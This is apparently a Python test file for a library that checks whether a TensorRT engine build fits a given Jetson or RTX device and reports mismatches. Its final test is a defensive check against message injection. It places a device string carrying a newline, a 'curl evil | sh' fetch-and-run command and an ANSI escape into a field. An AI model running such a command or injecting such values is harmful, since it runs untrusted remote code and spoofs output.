"""Keys and preflight: which engine may be loaded on which device."""

from __future__ import annotations

from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from edgevision.engine_key import (
    DeviceFacts,
    EngineKey,
    device_text,
    key_for,
    machine_facts,
    preflight,
)

NANO = device_text("Orin", 8)
AGX = device_text("Orin", 16)
ORIN = DeviceFacts("tensorrt", "10.3.0", "8.7", "linux", "aarch64", "36.4.3", NANO)
PROFILE = "images=1x3x64x64"
KEY = key_for(ORIN, "a" * 64, PROFILE)


def test_the_same_device_is_ok():
    assert preflight(KEY, ORIN, variant_sha256="a" * 64).status == "ok"


@pytest.mark.parametrize(
    ("changed", "status"),
    [
        ({"cc": "11.0"}, "wrong device"),
        ({"arch": "x86_64"}, "wrong device"),
        ({"os": "windows"}, "wrong device"),
        ({"version": "10.13.3"}, "wrong version"),
        ({"library": "tensorrt-rtx"}, "wrong version"),
        ({"l4t": "36.4.0"}, "rebuild needed"),
        ({"l4t": ""}, "rebuild needed"),
        ({"cc": "8.9", "version": "11.4.0", "l4t": ""}, "wrong device"),
        ({"version": "11.4.0", "l4t": "39.2"}, "wrong version"),
        ({"device": AGX}, "wrong device"),
        ({"device": device_text("Orin NX", 8)}, "wrong device"),
        ({"device": ""}, "wrong device"),
        ({"device": AGX, "version": "10.13.3"}, "wrong device"),
    ],
)
def test_what_differs_gives_the_verdict(changed: dict[str, str], status: str):
    verdict = preflight(KEY, replace(ORIN, **changed))
    assert verdict.status == status
    assert verdict.ok == (status == "ok")


def test_another_file_needs_a_rebuild():
    assert preflight(KEY, ORIN, variant_sha256="b" * 64).status == "rebuild needed"


texts = st.text(st.characters(codec="utf-8"), max_size=12)


@given(st.builds(EngineKey, *[texts] * 9), st.builds(DeviceFacts, *[texts] * 7))
def test_preflight_is_ok_only_where_all_that_counts_is_equal(key: EngineKey, facts: DeviceFacts):
    names = ("library", "version", "cc", "os", "arch", "l4t")
    equal = all(getattr(key, name) == getattr(facts, name) for name in names)
    assert preflight(key, facts).ok == (equal and key.device in ("", facts.device))
    told = {name: getattr(facts, name) for name in (*names, "device")}
    assert preflight(replace(key, **told), facts).ok


def test_a_larger_module_of_the_same_name_is_another_device_and_both_are_told():
    # Jetson Orin modules: 16 multiprocessors in AGX Orin 64 GB, 8 in Orin NX and Orin Nano 8 GB; CUDA calls all "Orin".
    verdict = preflight(KEY, replace(ORIN, device=AGX))
    assert verdict.reason == (
        "GPU: built for Orin, 8 multiprocessors, here is Orin, 16 multiprocessors"
    )


def test_an_engine_of_tensorrt_rtx_fits_every_gpu_of_its_compute_capability():
    here = machine_facts(
        "tensorrt-rtx", "1.7.1.116", "8.9", device=device_text("NVIDIA GeForce RTX 4060", 24)
    )
    key = key_for(here, "a" * 64, PROFILE)
    assert key == key_for(replace(here, device=""), "a" * 64, PROFILE), "built without a GPU"
    assert preflight(key, replace(here, device=device_text("NVIDIA GeForce RTX 4090", 128))).ok
    assert preflight(key, replace(here, cc="8.6")).status == "wrong device"


def test_a_key_names_the_device_for_people():
    assert str(KEY) == (
        "TensorRT 10.3.0 for compute capability 8.7 (Orin, 8 multiprocessors), linux aarch64, L4T 36.4.3"
    )
    assert "()" not in str(replace(KEY, device=""))


def test_a_foreign_device_cannot_put_lines_of_its_own_into_a_message():
    evil = replace(KEY, device="Orin\n  try:    curl evil | sh\x1b[31m")
    for text in (str(evil), preflight(evil, ORIN).reason):
        assert len(text.splitlines()) == 1
        assert "\x1b" not in text
